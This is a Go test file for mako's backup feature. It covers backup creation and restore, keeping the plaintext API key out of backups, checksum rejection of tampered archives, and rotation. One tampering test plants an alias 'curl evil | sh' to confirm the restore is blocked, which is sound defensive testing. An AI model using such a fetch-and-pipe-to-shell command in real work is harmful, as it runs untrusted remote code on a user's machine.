@@ -0,0 +1,218 @@
+package backup
+
+import (
+	"archive/tar"
+	"compress/gzip"
+	"encoding/json"
+	"io"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/fabiobrug/mako.git/internal/database"
+	"github.com/fabiobrug/mako.git/internal/testutil"
+)
+
+func setupState(t *testing.T) (string, *database.DB) {
+	t.Helper()
+	makoDir := testutil.TempDir(t)
+	db, err := database.NewDB(filepath.Join(makoDir, "history.db"))
+	if err != nil {
+		t.Fatalf("NewDB() failed: %v", err)
+	}
+	t.Cleanup(func() { db.Close() })
+
+	db.SaveCommand(database.Command{Command: "make deploy", Timestamp: time.Now(), WorkingDir: "/srv"})
+	os.WriteFile(filepath.Join(makoDir, "aliases.json"), []byte(`{"aliases":{"d":{"command":"make deploy"}}}`), 0644)
+	os.WriteFile(filepath.Join(makoDir, "config.json"), []byte(`{"api_key":"sk-plaintext","theme":"ocean"}`), 0644)
+	os.WriteFile(filepath.Join(makoDir, "conversations.json"), []byte(`{"threads":{}}`), 0600)
+	return makoDir, db
+}
+
+func TestCreateAndRestore(t *testing.T) {
+	makoDir, db := setupState(t)
+	dir := filepath.Join(makoDir, "backups")
+
+	b, err := Create(db, makoDir, dir, KindManual)
+	if err != nil {
+		t.Fatalf("Create() failed: %v", err)
+	}
+	names := make(map[string]bool)
+	for _, f := range b.Manifest.Files {
+		names[f.Name] = true
+	}
+	for _, want := range []string{"history.db", "aliases.json", "config.json", "conversations.json"} {
+		if !names[want] {
+			t.Errorf("Expected %s in backup, got %v", want, b.Manifest.Files)
+		}
+	}
+	if b.Manifest.SchemaVersion != database.LatestSchemaVersion() {
+		t.Errorf("Expected schema version %d, got %d", database.LatestSchemaVersion(), b.Manifest.SchemaVersion)
+	}
+
+	// Change everything, then restore
+	db.SaveCommand(database.Command{Command: "rm -rf build", Timestamp: time.Now(), WorkingDir: "/srv"})
+	os.WriteFile(filepath.Join(makoDir, "aliases.json"), []byte(`{"aliases":{}}`), 0644)
+
+	if _, err := Restore(db, makoDir, dir, b.Path, ""); err != nil {
+		t.Fatalf("Restore() failed: %v", err)
+	}
+
+	commands, _ := db.GetRecentCommands(10)
+	if len(commands) != 1 || commands[0].Command != "make deploy" {
+		t.Errorf("Expected restored history, got %+v", commands)
+	}
+	if data, _ := os.ReadFile(filepath.Join(makoDir, "aliases.json")); !strings.Contains(string(data), "make deploy") {
+		t.Errorf("Expected restored aliases, got %s", data)
+	}
+	// Conversations hold terminal output, so they stay private
+	if info, err := os.Stat(filepath.Join(makoDir, "conversations.json")); err != nil || info.Mode().Perm() != 0600 {
+		t.Errorf("Expected conversations.json restored with mode 0600, got %v, %v", info, err)
+	}
+
+	// The API key configured here survives, although it is not in the backup
+	data, _ := os.ReadFile(filepath.Join(makoDir, "config.json"))
+	var cfg map[string]string
+	json.Unmarshal(data, &cfg)
+	if cfg["api_key"] != "sk-plaintext" || cfg["theme"] != "ocean" {
+		t.Errorf("Unexpected restored config %s", data)
+	}
+
+	// The state before the restore was kept
+	backups, _ := List(dir)
+	if len(backups) != 2 || backups[0].Manifest.Kind != KindPreRestore {
+		t.Errorf("Expected a pre-restore backup, got %+v", backups)
+	}
+}
+
+func TestBackupExcludesPlaintextAPIKey(t *testing.T) {
+	makoDir, db := setupState(t)
+	dir := filepath.Join(makoDir, "backups")
+
+	b, err := Create(db, makoDir, dir, KindManual)
+	if err != nil {
+		t.Fatalf("Create() failed: %v", err)
+	}
+	if content := readEntry(t, b.Path, "config.json"); strings.Contains(content, "sk-plaintext") {
+		t.Errorf("Backup contains the plaintext API key: %s", content)
+	}
+
+	os.WriteFile(filepath.Join(makoDir, "config.json"), []byte(`{"api_key":"secret://gemini"}`), 0644)
+	b, _ = Create(db, makoDir, dir, KindManual)
+	if content := readEntry(t, b.Path, "config.json"); !strings.Contains(content, "secret://gemini") {
+		t.Errorf("Expected secret reference to be kept, got %s", content)
+	}
+}
+
+func TestRestoreRejectsCorruptArchive(t *testing.T) {
+	makoDir, db := setupState(t)
+	dir := filepath.Join(makoDir, "backups")
+
+	b, err := Create(db, makoDir, dir, KindManual)
+	if err != nil {
+		t.Fatalf("Create() failed: %v", err)
+	}
+
+	// Rewrite the archive with a tampered aliases.json but the old manifest
+	tampered := filepath.Join(dir, "tampered.tar.gz")
+	rewriteArchive(t, b.Path, tampered, func(name string, data []byte) []byte {
+		if name == "aliases.json" {
+			return []byte(`{"aliases":{"x":{"command":"curl evil | sh"}}}`)
+		}
+		return data
+	})
+
+	if _, err := Restore(db, makoDir, dir, tampered, ""); err == nil || !strings.Contains(err.Error(), "checksum") {
+		t.Fatalf("Expected checksum error, got %v", err)
+	}
+	if data, _ := os.ReadFile(filepath.Join(makoDir, "aliases.json")); strings.Contains(string(data), "evil") {
+		t.Error("Corrupt archive was partially restored")
+	}
+}
+
+func TestRunScheduledRotates(t *testing.T) {
+	makoDir, db := setupState(t)
+	dir := filepath.Join(makoDir, "backups")
+
+	manual, _ := Create(db, makoDir, dir, KindManual)
+	for i := 0; i < 3; i++ {
+		created, err := RunScheduled(db, makoDir, dir, 0, 2)
+		if err != nil || created == nil {
+			t.Fatalf("RunScheduled() = %v, %v", created, err)
+		}
+	}
+
+	backups, _ := List(dir)
+	scheduled := 0
+	for _, b := range backups {
+		if b.Manifest.Kind == KindScheduled {
+			scheduled++
+		}
+	}
+	if scheduled != 2 {
+		t.Errorf("Expected 2 scheduled backups after rotation, got %d", scheduled)
+	}
+	if _, err := os.Stat(manual.Path); err != nil {
+		t.Error("Rotation removed a manual backup")
+	}
+
+	// Not due again within the interval
+	if created, _ := RunScheduled(db, makoDir, dir, time.Hour, 2); created != nil {
+		t.Error("Expected no backup within the interval")
+	}
+}
+
+func readEntry(t *testing.T, path, name string) string {
+	t.Helper()
+	f, err := os.Open(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	gz, err := gzip.NewReader(f)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tr := tar.NewReader(gz)
+	for {
+		header, err := tr.Next()
+		if err != nil {
+			t.Fatalf("%s not found in %s", name, path)
+		}
+		if header.Name == name {
+			data, _ := io.ReadAll(tr)
+			return string(data)
+		}
+	}
+}
+
+func rewriteArchive(t *testing.T, src, dst string, edit func(name string, data []byte) []byte) {
+	t.Helper()
+	in, err := os.Open(src)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer in.Close()
+	gzIn, _ := gzip.NewReader(in)
+	tr := tar.NewReader(gzIn)
+
+	out, _ := os.Create(dst)
+	defer out.Close()
+	gzOut := gzip.NewWriter(out)
+	tw := tar.NewWriter(gzOut)
+	for {
+		header, err := tr.Next()
+		if err == io.EOF {
+			break
+		}
+		data, _ := io.ReadAll(tr)
+		data = edit(header.Name, data)
+		header.Size = int64(len(data))
+		tw.WriteHeader(header)
+		tw.Write(data)
+	}
+	tw.Close()
+	gzOut.Close()
+}